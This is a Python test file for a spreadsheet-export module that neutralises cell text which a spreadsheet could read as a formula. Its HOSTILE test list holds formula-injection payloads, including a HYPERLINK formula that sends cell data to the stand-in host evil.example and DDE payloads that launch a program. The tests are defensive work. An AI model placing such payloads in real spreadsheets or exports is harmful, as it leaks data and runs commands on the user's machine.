"""Neutralising text that a spreadsheet could read as a formula."""

from __future__ import annotations

import pytest

from escadesk.exports.cells import (
    MAX_CELL_CHARS,
    is_phone_like,
    needs_neutralising,
    quote_prefixed,
    safe_text,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-2+3",
    "+",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert needs_neutralising(text)
    assert safe_text(text) == "'" + text
    assert not quote_prefixed(safe_text(text))


@pytest.mark.parametrize(
    "text",
    ["Northshore Photonics Cluster", "Cluster = Network", " =1+1", "'=1+1", "Ünïcode @ home", ""],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "phone", ["+1 416 555 0100", "+49 (621) 555-0107", "-555 0100", "+1 416 555 0100 ext. 12"]
)
def test_phone_numbers_stay_as_typed_with_a_hidden_quote_prefix(phone: str) -> None:
    assert is_phone_like(phone)
    assert safe_text(phone) == phone
    assert quote_prefixed(phone)


@pytest.mark.parametrize("text", ["+1 416 555 0100 call me", "+1+cmd|' /C calc'!A0", "+4(A1)"])
def test_phone_lookalikes_with_letters_or_operators_are_neutralised(text: str) -> None:
    assert not is_phone_like(text)
    assert safe_text(text).startswith("'")


def test_control_characters_that_xml_cannot_carry_are_dropped() -> None:
    assert safe_text("Clus\x00ter\x0b One\x1f") == "Cluster One"
    assert safe_text("line one\nline two") == "line one\nline two"
    # Dropping a control character must not uncover a formula.
    assert safe_text("\x01=1+1") == "'=1+1"


def test_text_longer_than_a_cell_holds_is_cut_with_an_ellipsis() -> None:
    text = safe_text("x" * (MAX_CELL_CHARS + 10))
    assert len(text) == MAX_CELL_CHARS and text.endswith("…")
